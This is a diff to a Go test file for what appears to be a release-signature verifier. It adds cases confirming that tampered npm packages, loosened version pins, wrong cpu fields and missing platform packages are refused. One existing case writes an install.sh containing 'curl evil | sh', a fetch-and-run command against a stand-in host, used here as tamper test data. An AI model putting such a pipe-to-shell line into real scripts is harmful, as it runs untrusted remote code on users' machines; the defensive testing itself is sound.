@@ -214,6 +214,9 @@ func reseal(t *testing.T, dir string, priv *ecdsa.PrivateKey, editManifest func(
 	}
 	for i, a := range m.Artifacts {
 		sum, size, err := artifact.SHA256File(filepath.Join(dir, a.Name))
+		if os.IsNotExist(err) {
+			continue // a case that removed it drops it from the manifest
+		}
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -290,6 +293,21 @@ func editTarGz(t *testing.T, path string, edit func([]tarMember) []tarMember) {
 	writeFile(t, path, out.String())
 }
 
+// editJSON rewrites one JSON member of an archive.
+func editJSON(member string, edit func(map[string]any)) func([]tarMember) []tarMember {
+	return func(ms []tarMember) []tarMember {
+		for i := range ms {
+			if ms[i].hdr.Name == member {
+				var doc map[string]any
+				json.Unmarshal(ms[i].data, &doc)
+				edit(doc)
+				ms[i].data, _ = json.MarshalIndent(doc, "", "  ")
+			}
+		}
+		return ms
+	}
+}
+
 func copyDir(t *testing.T, from string) string {
 	t.Helper()
 	to := t.TempDir()
@@ -308,6 +326,8 @@ func TestVerifyRefusesTampering(t *testing.T) {
 		t.Fatalf("the untouched release is refused: %v", err)
 	}
 	x64 := "tern-" + fixtureVersion + "-linux-x64.tar.gz"
+	npmX64 := "tern-agent-cli-linux-x64-" + fixtureVersion + ".tgz"
+	npmMeta := "tern-agent-cli-" + fixtureVersion + ".tgz"
 	prefix := "tern-" + fixtureVersion + "-linux-x64/"
 	arm64Bin, err := os.ReadFile(filepath.Join(fixtureBins, "linux_arm64", "tern"))
 	if err != nil {
@@ -401,6 +421,40 @@ func TestVerifyRefusesTampering(t *testing.T) {
 			editTarGz(t, filepath.Join(dir, x64), setMember("libexec/tern/bwrap", []byte("#!/bin/sh\necho evil\n")))
 			reseal(t, dir, priv, nil)
 		}, []string{x64 + ": helper bwrap has sha256"}},
+		{"an npm platform package's binary", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, npmX64), func(ms []tarMember) []tarMember {
+				for i := range ms {
+					if ms[i].hdr.Name == "package/bin/tern" {
+						ms[i].data[100] ^= 0xff
+					}
+				}
+				return ms
+			})
+			reseal(t, dir, priv, nil)
+		}, []string{npmX64 + ": its binary (sha256", "is not byte-identical to the linux-x64 archive's"}},
+		{"an npm pin", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, npmMeta), editJSON("package/package.json", func(p map[string]any) {
+				p["optionalDependencies"].(map[string]any)["@tern-agent/cli-linux-x64"] = "^" + fixtureVersion
+			}))
+			reseal(t, dir, priv, nil)
+		}, []string{npmMeta + ": pins @tern-agent/cli-linux-x64 at \"^" + fixtureVersion + "\", want exactly " + fixtureVersion}},
+		{"an npm cpu", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, npmX64), editJSON("package/package.json", func(p map[string]any) { p["cpu"] = []string{"arm64"} }))
+			reseal(t, dir, priv, nil)
+		}, []string{npmX64 + ": package.json says os [linux] cpu [arm64], linux-x64 needs [linux] [x64]"}},
+		{"a missing npm platform package", func(t *testing.T, dir string) {
+			name := "tern-agent-cli-win32-arm64-" + fixtureVersion + ".tgz"
+			os.Remove(filepath.Join(dir, name))
+			reseal(t, dir, priv, func(m *manifest.Manifest) {
+				var kept []manifest.Artifact
+				for _, a := range m.Artifacts {
+					if a.Name != name {
+						kept = append(kept, a)
+					}
+				}
+				m.Artifacts = kept
+			})
+		}, []string{"manifest.json: lists no npm platform package for target windows-arm64"}},
 		{"a file no checksum covers", func(t *testing.T, dir string) {
 			writeFile(t, filepath.Join(dir, "install.sh"), "curl evil | sh\n")
 		}, []string{"install.sh: is in the release but not in SHA256SUMS"}},
